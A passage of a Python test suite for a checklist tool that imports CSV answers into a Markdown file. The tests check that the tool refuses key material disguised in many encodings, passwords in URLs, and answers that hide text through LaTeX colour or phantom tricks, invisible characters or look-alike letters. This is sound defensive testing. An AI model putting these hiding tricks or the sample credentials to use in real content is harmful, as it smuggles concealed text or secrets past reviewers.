                        f"2: a value in column 3, {advice} ','", f"3: a value in column 3, {advice} ','")
        refused_exactly(box, "id,answer,,,\nREQ-4,36, 40, 44, 48\n", f"2: a value in column 3, {advice} ','")
        refused_exactly(box, "id;answer;\nREQ-4;36; 40\n", f"2: a value in column 3, {advice} ';'")
        refused_exactly(box, "id,,answer\nREQ-4,x,36\n", f"2: a value in column 2, {advice} ','")
        text = box.accepted('id,answer,\nREQ-1,"teaching, product",\nREQ-4,36\n')     # empty everywhere: fine
        assert "**Answer:** `teaching`, `product`" in text and "**Answer:** 36\n" in text
        refused_exactly(box, "id,answer,\nREQ-4,36, 40 and 44\n", f"2: a value in column 3, {advice} ','",
                        flags=("--replace",))                     # never cut down to the answer already recorded


@test
def g02_hex_groups_joined_by_any_punctuation_or_by_math_are_keys():
    octets = pairs(K, 8)
    secret_refused(HEX_KEY, *("K " + sep.join(octets) for sep in '!~^=#?$&"'),
                   "K $" + "\\!".join(octets) + "$", "K $" + "".join(f"\\mathtt{{{o}}}" for o in octets) + "$",
                   "K " + "".join(f"({o})" for o in octets), "K " + "".join(f"[{o}]" for o in octets),
                   "K " + " \u00bb ".join(pairs(K, 4)), "K " + "+".join(pairs(K256, 16)))
    accepted_as_text("TS 38.211, 38.212, 38.213, 38.214, 38.300, 38.321, 38.401, 38.413, 38.473, 23.501, 33.501",
                     "from 2026-12-01 to 2027-01-15, then 2027-02-01, 2027-03-01 (tbc) and 2027-04-01",
                     "1 Dec 2026, 15 Dec 2026, 3 Feb 2027, 4 Feb 2027, 5 Feb 2027 and 6 Dec 2027",
                     "(a) 2026-12-01 (b) 2027-01-15 (c) 2027-02-01 (d) 2027-03-01 (e) 2027-04-01",
                     "UPFs at 10.45.0.1, 10.45.0.2, 10.45.0.3, 10.45.0.4 (N3) and 192.168.100.1-192.168.100.254",
                     "releases 1.2.3, 1.2.4, 1.3.0, 2.0.0, 2.0.1, 2.1.0, 2.1.1, 2.2.0, 2.3.0, 2.3.1, 2.4.0, 2.4.1",
                     "phones +49 (0)30 1234-5678, +44 20 7946 0000, +1 (212) 555-0100, +33 1 23 45 67 89",
                     "budget $1,200,000 (2027) & $2,500,000 (2028); ports 36412, 38412, 2152, 8805, 7777, 9090")


@test
def g03_base64_percent_encoded_in_a_url_or_split_unevenly_is_refused():
    secret_refused(BASE64, "K=Rltc6LGZtJ%2BqXwou4jimvA%3D%3D", "see https://Rltc6LGZtJ-qXwou4jimvA.kms.example/",
                   "K Rltc6LGZtJ+qX wou4jimvA==", "K Rlt c6LGZtJ+qXwou4 jimvA==", f"https://{K64}@hss.example/",
                   "K 1zAfAuO3xh//cJvRGrl+/W5dY SrET/dEWM18lLTRzvY=")
    secret_refused("a password in a URL (user:password@host)", f"HSS at https://ki:{K64}@hss.example/",
                   "UDM database postgres://udm:s3cret-pass@10.45.0.9:5432/udm")
    accepted_as_text("see https://git@github.com/open5gs/open5gs and https://user@dms.example/doc/42",
                     "portal https://My-Lab.example.org/x and https://Example.com/a%20b/c%2Fd?q=x%26y",
                     "RAN 100% ready, core 80% (see https://dms.example/plan?owner=ops&year=2027)",
                     "three sites: Berlin Mitte, Hamburg Altona and Koeln Deutz==")


@test
def g04_a_hash_label_counts_only_right_before_its_digest():
    secret_refused(HEX_KEY, "TUAK K (this is not a sha256): " + K256, "TUAK K (ask git ops): " + K256,
                   "SUCI home network private key: https://kms.example/hn-key/" + K256, "no checksum, the key: " + K256,
                   f"see https://code.example/tree/{H64}/src", f"sha256 of the key file: {H64}", f"https://kms.example/{K}")
    accepted_as_text(f"sha256:{H64}", f"SHA-256 {H64}", f"SHA256 (fw.bin) = {H64}", f"SHA2-256(fw.bin)= {H64}",
                     f"sha256sum: {H64}", f"fingerprint (SHA256) = {H64}", f"ghcr.io/o/o@sha256:{H64}", f"git {H40}",
                     f"see https://github.com/o/r/commit/{H40} and https://example.org/sha256/{H64}/fw.bin")


@test
def g05_form_never_overwrites_the_page_template_or_the_program():
    with Sandbox() as box:
        tools = box.dir / "tools"                   # a copy of the program, whose README.md is the fixture
        shutil.copytree(ROOT / "tools", tools, ignore=shutil.ignore_patterns("__pycache__"))
        before = {p.name: p.read_bytes() for p in tools.iterdir()}
        saved = {name: getattr(cl, name, None) for name in ("PROGRAM_DIR", "FORM_TEMPLATE")}
        cl.PROGRAM_DIR, cl.FORM_TEMPLATE = tools, tools / "form.html"      # the program run from the copy
        try:
            result = run_main("form", "-o", "form.html", "--file", box.doc, cwd=tools)    # cd tools && ... form -o form.html
            assert (result.returncode, result.stdout, result.stderr) == \
                (2, "", "form.html is the page template, which every page is made from; write the page to another file\n")
            for name in ("checklist.py", "checklist_core.py"):
                result = box.run("form", "-o", tools / name)
                assert (result.returncode, result.stderr) == \
                    (2, f"{tools / name} is a file of the program (tools/{name}); write the page to another file\n")
            assert {p.name: p.read_bytes() for p in tools.iterdir()} == before
            (tools / "form.html").write_text("<!DOCTYPE html><title>an old page</title>", encoding="utf-8")
            result = box.run("form", "-o", box.dir / "page.html")              # a template written over is never used
            assert (result.returncode, result.stderr) == (2, f"{tools / 'form.html'}: the page template lacks "
                                                             "{{title}} and {{data}} (was a page written over it?); restore "
                                                             "it, for example with 'git checkout tools/form.html'\n")
        finally:
            for name, value in saved.items():
                setattr(cl, name, value)
        assert not (box.dir / "page.html").exists()


class FailingOutput(io.StringIO):
    """Standard output that fails as a closed pipe or a full disk does."""

    def __init__(self, code):
        super().__init__()
        self.code = code

    def write(self, text):
        raise (BrokenPipeError if self.code == errno.EPIPE else OSError)(self.code, os.strerror(self.code))


def run_into(out, *args):
    """Run the program in-process with this standard output (None: a closed one); (code, stderr)."""
    err, saved = io.StringIO(), sys.stdout
    try:
        sys.stdout = None if out is None else sys.stdout
        code = cl.main([str(a) for a in args], out, err)
    finally:
        sys.stdout = saved
    return code, err.getvalue()


@test
def g06_an_import_that_has_written_says_so_whatever_happens_to_its_report():
    for out, why in ((FailingOutput(errno.EPIPE), "the reader has closed the pipe"),
                     (FailingOutput(errno.ENOSPC), "No space left on device"), (None, "it is closed")):
        with Sandbox() as box:
            answers = box.csv("id,answer\nREQ-3,12 sites\n")
            assert run_into(out, "import", answers, "--file", box.doc) == \
                (0, f"{box.doc}: recorded 1 answer: REQ-3. The report could not be printed on standard output ({why}).\n")
            assert "**Answer:** 12 sites" in box.doc.read_text(encoding="utf-8")


@test
def g07_header_names_that_only_look_like_id_or_answer_are_refused():
    plain = "but is not spelled in plain letters; retype it"
    with Sandbox() as box:
        refused_exactly(box, "id,answer\u200b,answer\nREQ-3,France,Germany\n",
                        "1: the header name 'answer\\u200b' holds an invisible character (U+200B); retype it as plain text")
        refused_exactly(box, "id,\u0430nswer,answer\nREQ-3,France,Germany\n",
                        f"1: the header name '\u0430nswer' reads 'answer' {plain}")
        refused_exactly(box, "# role\n\u0456d,answer\nREQ-3,France\n", f"2: the header name '\u0456d' reads 'id' {plain}")
        refused_exactly(box, "id,\uff21\uff2e\uff33\uff37\uff25\uff32\nREQ-3,France\n",
                        f"1: the header name '\uff41\uff4e\uff53\uff57\uff45\uff52' reads 'answer' {plain}")
        refused_exactly(box, "id,Answer, ANSWER\nREQ-3,France,Germany\n", "1: the header names 'answer' more than once")
        assert "**Answer:** Germany" in box.accepted("ID,Answer,R\u00e9ponse,\u041e\u0442\u0432\u0435\u0442\nREQ-3,Germany,,\n")
        box.refused("id,answer,R\u00e9ponse\nREQ-3,Spain,x\n", "the 'r\u00e9ponse' column is not recorded")   # H52-1


@test
def g08_long_decimal_runs_and_octal_escapes_are_keys():
    secret_refused(HEX_KEY, "K (decimal) 93520343136652685040522976224586802876", "K 12345678901234567890123456789012")
    secret_refused("a key (16 or more bytes written as octal escapes, like \\106\\133\\134)",
                   "K = " + "".join(f"\\{b:o}" for b in bytes.fromhex(K)))
    accepted_as_text("K 1234567890123456789012345678901 (31 digits)", "IMSI 001010000000001, 001010000000002, 00101000000003",
                     "bytes \\106\\133\\134\\350 only")


@test
def g09_github_math_and_strikethrough_are_markup():
    math = "the answer may not contain math: '$$', '\\color', '\\phantom', or a '\\' command between '$' signs"
    reason = "'not needed' must give its reason, for example 'not needed: we run no radios'"
    with Sandbox() as box:
        for value in ("$\\phantom{Germany}$", "Germany $\\color{white}{\\text{and also France}}$", "Germany $$x$$",
                      "Germany \\color{white}"):
            refused_exactly(box, f"id,answer\nREQ-3,{value}\n", f"2: REQ-3: {math}")
        refused_exactly(box, "id,answer\nREQ-3,$\\text{not needed}$\n", f"2: REQ-3: {reason}", f"2: REQ-3: {math}")
        refused_exactly(box, "id,answer\nREQ-3,~~not needed~~\n", f"2: REQ-3: {reason}",
                        "2: REQ-3: the answer may not contain struck-through text ('~~')")
        box.accepted("id,answer\nREQ-3,12 sites at $5 to $10 a month each (~20 in all)\n")
    assert cl.is_not_needed("~~not needed~~: x") and cl.is_not_needed("$\\text{not needed}$: x")


@test
def g10_an_answer_needs_a_letter_or_digit_and_noncharacters_are_invisible():
    with Sandbox() as box:
        refused_exactly(box, "id,answer\nREQ-3,\ufdd0\ufffe\uffff\n", "2: REQ-3: the answer holds an invisible or control "
                                                                      "character (U+FDD0, U+FFFE, U+FFFF); retype it as plain text")
        refused_exactly(box, "id,answer\nREQ-3,Germany \U0010ffff\n", "2: REQ-3: the answer holds an invisible or "
                                                                      "control character (U+10FFFF); retype it as plain text")
        for value in ("\U0003fffd\U0004abcd", "\u2014 \u2713 \U0001F44D", "!!"):
            refused_exactly(box, f"id,answer\nREQ-3,{value}\n", "2: REQ-3: the answer has no letter or digit; write it in words")
        refused_exactly(box, "id,answer\nREQ-3,?!\n", "2: REQ-3: '?!' is no answer: leave the cell empty until it is "
                        "known, or write 'not needed: <reason>'")          # H14-3: a question mark puts it off
        assert "**Answer:** Germany \U0001FAE8 \U0003fffd" in box.accepted("id,answer\nREQ-3,Germany \U0001FAE8 \U0003fffd\n")


@test
def g11_only_entities_html_defines_are_refused():
    with Sandbox() as box:
        for value in ("&nbsp;", "a&ZeroWidthSpace;b", "AT&amp;T", "&#x202E;x", "&GT;"):
            refused_exactly(box, f"id,answer\nREQ-3,{value}\n", "2: REQ-3: the answer may not contain HTML entities")
        assert "**Answer:** US carrier AT&T; EU: Vodafone, R&D; Q&A;" in \
            box.accepted('id,answer\nREQ-3,"US carrier AT&T; EU: Vodafone, R&D; Q&A;"\n')


@test
def g12_views_end_quietly_when_their_output_cannot_be_written():
    with Sandbox() as box:
        assert run_into(FailingOutput(errno.EPIPE), "items", "--file", box.doc) == (0, "")
        assert run_into(FailingOutput(errno.EPIPE), "check", "--file", box.dir / "none.md") == \
            (2, f"{box.dir / 'none.md'}: cannot read: No such file or directory\n")
        assert run_into(FailingOutput(errno.ENOSPC), "status", "--file", box.doc) == \
            (2, "cannot write to standard output: No space left on device\n")
        assert run_into(None, "check", "--file", box.doc) == (2, "cannot write to standard output: it is closed\n")


@test
def g13_form_writes_its_page_whole_or_not_at_all():
    with Sandbox() as box:
        page = box.dir / "page.html"
        page.write_text(f"<!DOCTYPE html>{cl.FORM_MARK.decode()}an older page", encoding="utf-8")
        page.chmod(0o640)
        fsync = os.fsync

        def full(fd):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        os.fsync = full
        try:
            result = box.run("form", "-o", page)
        finally:
            os.fsync = fsync
        assert (result.returncode, result.stderr) == (2, f"{page}: cannot write: No space left on device\n")
        assert page.read_text(encoding="utf-8") == f"<!DOCTYPE html>{cl.FORM_MARK.decode()}an older page"
        assert sorted(p.name for p in box.dir.iterdir()) == ["README.md", "page.html"], "a temporary file was left"
        assert box.run("form", "-o", page).returncode == 0 and page.read_text(encoding="utf-8").startswith("<!DOCTYPE")
        assert page.stat().st_mode & 0o777 == 0o640
        mask = os.umask(0o022)
        try:
            assert box.run("form", "-o", box.dir / "new.html").returncode == 0
        finally:
            os.umask(mask)
        assert (box.dir / "new.html").stat().st_mode & 0o777 == 0o644


@test
def g14_a_trickling_pipe_meets_an_overall_deadline():
    wait, limit = cl.FIFO_WAIT, getattr(cl, "FIFO_DEADLINE", None)
    read, write = os.pipe()
    stop = threading.Event()

    def trickle():                                    # a byte every 5 ms, never an end
        os.write(write, b"id,answer\nREQ-3,Germany\n")
        while not stop.wait(0.005):
            os.write(write, b" ")
    writer = threading.Thread(target=trickle)
    try:
        with Sandbox() as box, deadline(10):
            cl.FIFO_WAIT, cl.FIFO_DEADLINE = 0.1, 0.12     # a loaded machine may pause the trickle well past 5 ms
            before = box.doc.read_bytes()
            writer.start()
            result = box.run("import", f"/dev/fd/{read}")
            assert (result.returncode, result.stderr) == (1, f"/dev/fd/{read}: the input took more than 0.12 s in all; "
                                                             f"nothing recorded\n1 problem; {box.doc} not changed.\n")
            assert box.doc.read_bytes() == before
    finally:
        cl.FIFO_WAIT, cl.FIFO_DEADLINE = wait, limit
        stop.set()
        if writer.is_alive():
            writer.join()
        os.close(write)
        os.close(read)


@test
def g15_a_long_line_of_commit_urls_is_checked_in_linear_time():
    """A line longer than an answer may be is not judged for secrets but named as too long (H81-C38: one of 3.5 MB
    took 20 s to judge), anywhere in the file; a shorter one of commit URLs is no secret."""
    rng = random.Random(15)
    line = "Mirror: https://git.example/" + "/".join(bytes(rng.randrange(256) for _ in range(20)).hex() for _ in range(2000))
    text = swap("used by the tests.", "used by the tests.\n\n" + line + "\n")
    found = quick(lambda: cl.run_rules(cl.parse(text)), 0.5)     # import runs the same rules, before and after
    assert [(d.line, d.code) for d in found] == [(line_of(text, "Mirror: "), "secret")], found
    assert "longer than 2,000 characters" in found[0].message
    short = "Mirror: https://git.example/" + "/".join(bytes(rng.randrange(256) for _ in range(20)).hex() for _ in range(40))
    assert cl.run_rules(cl.parse(swap("used by the tests.", "used by the tests.\n\n" + short + "\n"))) == []


@test
def p12_a_hand_edit_saved_while_import_replaces_the_file_is_kept():
    """An editor saves README.md while import is writing: during the temporary file's fsync (by renaming its
    file over README.md), just before import's hard link (the same), or between the hard link and the rename
    (writing into README.md). Each time the import is refused and the hand edit kept."""
    real = {"fsync": os.fsync, "link": os.link, "replace": os.replace}
    for when in ("fsync", "link", "replace"):
        with Sandbox() as box:
            edit = b"\nA hand edit.\n"
            edited = box.doc.read_bytes() + edit
            done = []

            def save():
                if done:
                    return
                done.append(True)
                if when == "replace":                 # an editor that writes in place
                    with open(box.doc, "ab") as f:
                        f.write(edit)
                else:                                 # one that saves by rename, as most do
                    (box.dir / "editor.tmp").write_bytes(edited)
                    real["replace"](box.dir / "editor.tmp", box.doc)

            def hooked(name):
                def call(*args, **kwargs):
                    save()
                    return real[name](*args, **kwargs)
                return call
            setattr(os, when, hooked(when))
            try:
                result = box.run("import", box.csv("id,answer\nREQ-3,12 sites\n"))
            finally:
                setattr(os, when, real[when])
            assert (result.returncode, result.stderr) == \
                (1, "README.md changed during the import; nothing recorded; run import again.\n"), (when, result)
            assert box.doc.read_bytes() == edited, when
            assert sorted(p.name for p in box.dir.iterdir()) == ["README.md", "answers.csv"], "a file was left"


@test
def packets_carry_the_rules_for_every_role_and_while_exp1_applies_the_contact_rule():
    contact = "no contact with the licensor"
    with Sandbox(shipped_readme()) as box:
        md = box.run("items", "--profile", "buyer", "--party", "counsel").stdout
        rules = md.split("Rules for every role:\n\n", 1)[1].split("\n\n", 1)[0].split("\n")
        assert len(rules) == 4 and rules[1].startswith("- **Counsel's answers**") and contact in rules[3], rules
        first = box.run("items", "--profile", "buyer", "--party", "counsel", "--format", "csv").stdout.split("\n")[0]
        assert "Counsel's answers are given per country" in first and contact in first and "**" not in first, first
        preamble = json.loads(box.run("items", "--profile", "buyer", "--format", "json").stdout)
        assert any(contact in rule for rule in preamble["rules"]), preamble["rules"]
        lab = box.run("items", "--profile", "lab", "--party", "counsel").stdout     # LIC-1 no: EXP-1 does not apply
        assert "Rules for every role:" in lab and contact not in lab, lab[:2000]


@test
def answers_so_far_hold_every_routing_answer_not_only_the_blockers():
    with Sandbox(shipped_readme()) as box:
        context = json.loads(box.run("items", "--profile", "buyer", "--format", "json").stdout)["context"]
        assert {"REQ-8", "REQ-9", "REQ-12", "REQ-17"} <= set(context), sorted(context)


@test
def a_provisional_answer_is_recorded_with_its_box_unticked():
    with Sandbox() as box:
        text = box.accepted("id,answer\nLIC-1,undecided; board meets in May\n")
        assert '- [ ] <a id="lic-1">' in text and "  - **Answer:** `undecided`; board meets in May" in text, text
        assert box.run("check").returncode == 0
        box.doc.write_text(text.replace('- [ ] <a id="lic-1">', '- [x] <a id="lic-1">'), encoding="utf-8")
        result = box.run("check")
        assert result.returncode == 1 and "[answer] LIC-1: a provisional answer (such as `pending`) leaves its box " \
            "unticked" in result.stdout, result
        text = box.accepted('id,answer,recorded\nLIC-1,yes,"undecided; board meets in May"\n', "--replace")
        assert '- [x] <a id="lic-1">' in text, text


# ---------------------------------------------------------------- the fifth hostile-input review (H1, D2 to D11, FP1 to FP8)

BASE32 = "encoded key material (a base32 run)"
NN_REASON = "'not needed' must give its reason, for example 'not needed: we run no radios'"


@test
def h5_h1_form_writes_a_pipe_or_device_in_place_and_never_replaces_it():
    if not hasattr(os, "mkfifo"):
        return
    with Sandbox() as box, deadline(20):
        fifo, got = box.dir / "page.fifo", []
        os.mkfifo(fifo)
        reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()), daemon=True)
        reader.start()
        result = box.run("form", "-o", fifo)
        reader.join()
        assert (result.returncode, result.stderr) == (0, f"{fifo}: written\n"), result
        assert stat.S_ISFIFO(os.stat(fifo).st_mode) and got[0].startswith(b"<!DOCTYPE html>"), got[:1]
        read, write = os.pipe()                       # /dev/stdout into a pipe: /dev/fd/N resolves to 'pipe:[...]'
        reader = threading.Thread(target=lambda: got.append(os.fdopen(read, "rb").read()), daemon=True)
        reader.start()
        try:
            result = box.run("form", "-o", f"/dev/fd/{write}")
        finally:
            os.close(write)
        reader.join()
        assert result.returncode == 0 and got[1] == got[0], (result, len(got[1]))
        read, write = os.pipe()                       # a reader that has gone: the page ends quietly, as a view does
        os.close(read)
        try:
            result = box.run("form", "-o", f"/dev/fd/{write}")
        finally:
            os.close(write)
        assert (result.returncode, result.stderr) == (0, f"/dev/fd/{write}: the reader has closed the pipe\n"), result
        null = os.stat("/dev/null")
        assert box.run("form", "-o", "/dev/null").returncode == 0
        assert stat.S_ISCHR(os.stat("/dev/null").st_mode) and os.stat("/dev/null").st_rdev == null.st_rdev
        disk = box.dir / "disk"                       # a block device (a disk) is refused, and stays one
        try:
            os.mknod(disk, stat.S_IFBLK | 0o600, os.makedev(7, 200))
        except (AttributeError, OSError):             # not root: no device nodes
            disk = None
        if disk:
            result = box.run("form", "-o", disk)
            assert (result.returncode, result.stderr) == (2, f"{disk} is a block device (a disk); write the page to a "
                                                             "file\n"), result
            assert stat.S_ISBLK(os.stat(disk).st_mode)
        assert sorted(p.name for p in box.dir.iterdir()) == ["README.md"] + ["disk"] * bool(disk) + ["page.fifo"]


@test
def h5_d11_import_keeps_the_owner_mode_and_extended_attributes_of_the_checklist():
    with Sandbox() as box:
        box.doc.chmod(0o664)
        owner = (1000, 1000) if os.geteuid() == 0 else None     # root importing another user's file
        if owner:
            os.chown(box.doc, *owner)
        try:
            os.setxattr(box.doc, "user.origin", b"lab")
            attributes = True
        except (AttributeError, OSError):             # no xattrs here
            attributes = False
        box.accepted("id,answer\nREQ-3,4\n")
        st = box.doc.stat()
        assert st.st_mode & 0o777 == 0o664 and (not owner or (st.st_uid, st.st_gid) == owner), (oct(st.st_mode), st.st_uid)
        assert not attributes or os.getxattr(box.doc, "user.origin") == b"lab"


@test
def h5_fp1_lists_of_identifiers_are_answers_but_a_key_cut_into_a_list_is_not():
    with Sandbox() as box:
        text = box.accepted('id,answer\nREQ-3,"US ECCNs 5A002.a.1, 5A992.c, 5D002.c.1, 5D992.c, 5E002.a (per counsel)"\n'
                            'REQ-4,"PLMN 262-01; TACs 0x00A001, 0x00A002, 0x00A003, 0x00A004, 0x00A005, 0x00A006"\n')
        assert "**Answer:** PLMN 262-01; TACs 0x00A001, 0x00A002, 0x00A003" in text
    accepted_as_text("cherry-picked commits 3f2a1bc, 7d9e0f1, a4b5c6d, 8e9f0a1, 2b3c4d5",
                     "fixed in commits 3f2a1bc8, 7d9e0f12, a4b5c6d3, 8e9f0a14",
                     "Gerrit change Change-Id: I8473b95934b5732ac55d26311a706c9c2bde9940 on gerrit.o-ran-sc.org",
                     "gNB MACs 001a.2b3c.4d5e, 001a.2b3c.4d5f, 001a.2b3c.4d60",
                     "radio unit serials 21A8F3C2, 21A8F3C3, 21A8F3C4, 21A8F3C5",
                     "TACs 0x00A1, 0x00A2, 0x00A3, 0x00A4, 0x00A5, 0x00A6, 0x00A7, 0x00A8")
    secret_refused(HEX_KEY, "K " + ", ".join(pairs(K, 8)), "K " + "; ".join(pairs(K, 4)), "K and " + ", ".join(pairs(K, 8)),
                   "K " + ",".join(pairs(K)) + " and more", "TUAK K " + ", ".join(pairs(K256, 16)),
                   "no commits: " + ", ".join(pairs(K, 8)))


@test
def h5_fp4_an_answer_may_cite_a_standard_the_references_do_not_list():
    with Sandbox() as box:
        text = box.accepted('id,answer\nREQ-3,"MILENAGE (TS 35.206), SIMs from sysmocom"\n')
        assert "  - **Answer:** MILENAGE (TS 35.206), SIMs from sysmocom\n" in text
        assert box.run("check").returncode == 0
    expect(swap("TS 23.501 is cited here.", "TS 23.501 and TS 35.206 are cited here."), "reference", "TS 35.206")


@test
def h5_d2_a_key_laid_out_as_a_uuid_or_a_full_ipv6_address_is_a_key():
    secret_refused(HEX_KEY, "OPc cd63cb71-954a-9f4e-48a5-994e37a02baf, K 465b5ce8-b199-b49f-aa5f-0a2ee238a6bc",
                   "TUAK K 9e1c5f7a-3b2d-4e6f-80a1-b2c3d4e5f607 18293a4b-5c6d-7e8f-9012-a3b4c5d6e7f8",
                   "K 465b:5ce8:b199:b49f:aa5f:0a2e:e238:a6bc")
    accepted_as_text("hub ID 4C4C4544-0042-3510-8052-B4C04F4E3732", "SBOM urn:uuid:3e671687-395b-41f5-a30f-a58921a69b79",
                     "asset GUID 465b5ce8-b199-b49f-aa5f-0a2ee238a6bc",
                     "UPF N3 IPv6 address fd12:3456:789a:0001:0000:0000:0000:0001",
                     "N3 IPv6 addresses fd12:3456:789a:0001:0000:0000:0000:0001, fd12:3456:789a:0001:0000:0000:0000:0002",
                     "UPF at 2001:0db8:85a3:0000:0000:8a2e:0370:7334",
                     "UEs 2001:db8:1::1 2001:db8:1::2 2001:db8:1::3 2001:db8:1::4 2001:db8:1::5 2001:db8:1::6")


@test
def h5_d3_git_alone_labels_only_a_commit_and_a_negation_a_few_words_before_cancels_a_label():
    secret_refused(HEX_KEY, "TUAK K (kept in git): " + K256, "TUAK K (this isn't really a sha256): " + K256,
                   "TUAK K (not in fact the sha256): " + K256)
    accepted_as_text(f"git {H40}", f"git sha {H64}", f"git commit {H40}", f"no radios; firmware sha256: {H64}")


@test
def h5_d4_base64_and_base32_split_unevenly_by_spaces_or_percent_encoded_twice_are_keys():
    secret_refused(BASE64, "K Rltc6LGZtJ+qX wou4jimvA", "K Rltc6LGZtJ+qX  wou4jimvA==", "K Rltc6 LGZtJ +qXwo u4jim vA==",
                   "K=Rltc6LGZtJ%252BqXwou4jimvA%253D%253D", "K=Rltc6LGZtJ%25252BqXwou4jimvA%25253D%25253D",
                   "K Rltc  6LGZ  tJ+q  Xwou  4jim  vA==")
    secret_refused(BASE32, "K IZNVZ2FRTG2 J7KS7BIXOEOFGXQ")
    accepted_as_text("SEC-10 Secure-development process", "Open5GS configs/open5gs/amf.yaml.in and srsRAN gnb_rf_b210.conf",
                     "sysmoISIM-SJA2 cards, 100 of them", "100%25 of sites")


@test
def h5_fp2_a_hash_label_may_stand_a_few_words_before_a_sha1_or_sha256_digest():
    accepted_as_text(f"Commit SHA: {H40} (tag v2.7.1)", f"SHA-256 of release v1.0: {H64}",
                     f"sha256sum of the release tarball: {H64}", f"checksums in SHA256SUMS: {H64}",
                     "counsel's PGP key: 4AEE 18F8 3AFD EB23 E06A 3B91 4C2A 1C0D 2EE5 B9E4",
                     "PGP fingerprint 4AEE 18F8 3AFD EB23 E06A 3B91 4C2A 1C0D 2EE5 B9E4")
    secret_refused(HEX_KEY, f"SHA-256 of the OPc file: {K256}", f"PGP key: {K256}", f"sha256 of fw.bin, not this: {K256}",
                   "sha256 of the image we ship to every customer site: " + K256)


@test
def h5_fp6_lrm_and_rlm_are_accepted_in_right_to_left_text_only():
    arabic = "\u0627\u0644\u062a\u0637\u0648\u064a\u0631 \u0641\u064a \u0623\u0644\u0645\u0627\u0646\u064a\u0627"
    hebrew = "\u05e2\u05d1\u05e8\u05d9\u05ea"
    accepted_as_text(f"{arabic}\u200f (2026)", f"{hebrew}\u200e test")
    with Sandbox() as box:
        for mark in ("\u200e", "\u200f"):
            refused_exactly(box, f"id,answer\nREQ-4,Germany{mark} (2026)\n", "2: REQ-4: the answer holds an invisible or "
                            f"control character (U+{ord(mark):04X}); retype it as plain text")


@test
def h5_fp8_an_excel_separator_line_names_the_delimiter():
    with Sandbox() as box:
        for content, row in (("sep=;\nid;answer\nREQ-3;Germany, France\n", (3, "REQ-3", "Germany, France")),
                             ("\ufeffsep=,\r\nid,answer\r\nREQ-4,4 sites\r\n", (3, "REQ-4", "4 sites"))):
            assert cl.read_csv(str(box.csv(content))) == ([(*row, None, {})], []), content
        refused_exactly(box, "sep=;\nid,answer\nREQ-1,teaching\n", "2: no 'id' and 'answer' columns in the header line "
                        "(export one with: items --format csv)")


@test
def h5_d8_a_placeholder_is_no_reason_for_not_needed():
    with Sandbox() as box:
        for reason in ("tbd", "TODO.", "FixMe", "xxx"):
            refused_exactly(box, f"id,answer\nREQ-3,not needed: {reason}\n", f"2: REQ-3: {NN_REASON}")
    accepted_as_text("not needed: tbd by counsel in May", "not needed: TODO list is empty")


@test
def h5_d6_d7_single_tilde_strikethrough_hiding_commands_and_latex_spaces_are_markup():
    math = "the answer may not contain math: '$$', '\\color', '\\phantom', or a '\\' command between '$' signs"
    with Sandbox() as box:
        refused_exactly(box, "id,answer\nREQ-3,\"Germany, ~France~\"\n",
                        "2: REQ-3: the answer may not contain struck-through text ('~text~')")
        refused_exactly(box, "id,answer\nREQ-3,$not\\ needed$\n", f"2: REQ-3: {NN_REASON}")
        for value in ("\"Germany US$ 5 m, $\\textcolor{white}{and France}$\"", "Germany costs $5 to $\\hphantom{France}$",
                      "Germany $\\vphantom{x}$"):
            refused_exactly(box, f"id,answer\nREQ-3,{value}\n", f"2: REQ-3: {math}")
    accepted_as_text("~20 to ~30 UEs per cell", "5~10 ms", "about ~20-~30 UEs")


@test
def h5_d9_csv_views_start_with_a_byte_order_mark():
    with Sandbox() as box:
        for view in (("items",), ("status",), ("profiles",), ("stats",)):
            out = box.run(*view, "--format", "csv").stdout
            assert out.startswith("\ufeff") and not out.startswith("\ufeff\ufeff"), (view, out[:20])
        exported = box.csv(box.run("items", "--format", "csv").stdout)             # read back as it was written
        assert box.run("items", "--answers", exported).returncode == 0


@test
def h5_fp3_ssh_fingerprints_and_spdx_ids_are_not_base64_keys():
    accepted_as_text("jump host key fingerprint SHA256:uNiVztksCsDhcc0u9e8BujQXVUpKZIDTMczCvj3tD2s (ED25519)",
                     "SBOM in SPDX 2.3; root element SPDXRef-Package-open5gs-2.7.1")
    secret_refused(BASE64, "K SHA256 uNiVztksCsDhcc0u9e8BujQXVUpKZIDTMczCvj3tD2s")


@test
def h5_fp5_an_answer_may_start_with_a_greater_than_sign():
    with Sandbox() as box:
        text = box.accepted("id,answer\nREQ-3,> 10 Gbit/s per UPF site\n")
        assert "  - **Answer:** > 10 Gbit/s per UPF site\n" in text and box.run("check").returncode == 0
        assert cl.parse(text).items["REQ-3"].get("Answer") == "> 10 Gbit/s per UPF site"
        refused_exactly(box, "id,answer\nREQ-4,# 10 channels\n",
                        "2: REQ-4: the answer may not start with a list, heading or table marker")


@test
def an_interrupt_after_the_write_says_what_was_recorded():
    with Sandbox() as box:
        real = cl.applicable
        calls = []

        def interrupted(*args):                       # the first call after the write: an interrupt lands there
            calls.append(args)
            raise KeyboardInterrupt
        before = box.doc.read_bytes()
        cl.applicable = interrupted
        try:
            result = box.run("import", box.csv("id,answer\nREQ-3,12\n"))
        finally:
            cl.applicable = real
        assert calls and box.doc.read_bytes() != before and "**Answer:** 12" in box.doc.read_text(encoding="utf-8")
        assert result.returncode == 0 and \
            result.stderr == f"interrupted after {box.doc} was written: recorded REQ-3.\n", result


@test
def form_writes_to_standard_output_for_a_dash_and_never_over_a_write_protected_page():
    with Sandbox() as box:
        result = box.run("form", "-o", "-")
        assert result.returncode == 0 and result.stdout.startswith("<!DOCTYPE html>") and \
            not (box.dir / "-").exists(), result.stderr
        page = box.dir / "mine.html"
        page.write_text("old page", encoding="utf-8")
        page.chmod(0o444)
        result = box.run("form", "-o", page)
        assert result.returncode == 2 and result.stderr == \
            f"{page} is write-protected; make it writable or write the page to another file\n", result
        assert page.read_text(encoding="utf-8") == "old page"


@test
def a_sheet_returned_late_never_brings_back_a_replaced_answer():
    with Sandbox() as box:
        box.accepted("id,answer\nREQ-3,50 sites\n")
        packet = box.run("items", "--format", "csv").stdout
        box.accepted("id,answer,recorded\nREQ-3,80 sites (approved),50 sites\n", "--replace")
        rows = list(csv.reader(io.StringIO(packet.lstrip("\ufeff"))))
        header = rows[1]
        for row in rows[2:]:                          # the reader fills in one other item, as asked
            if row[0] == "REQ-4":
                row[header.index("answer")] = "`none`"
        out = io.StringIO()
        csv.writer(out, lineterminator="\n").writerows(rows)
        text = box.accepted(out.getvalue(), "--replace")
        assert "**Answer:** 80 sites (approved)" in text and "50 sites" not in text, text


@test
def views_never_copy_a_key_the_file_holds():
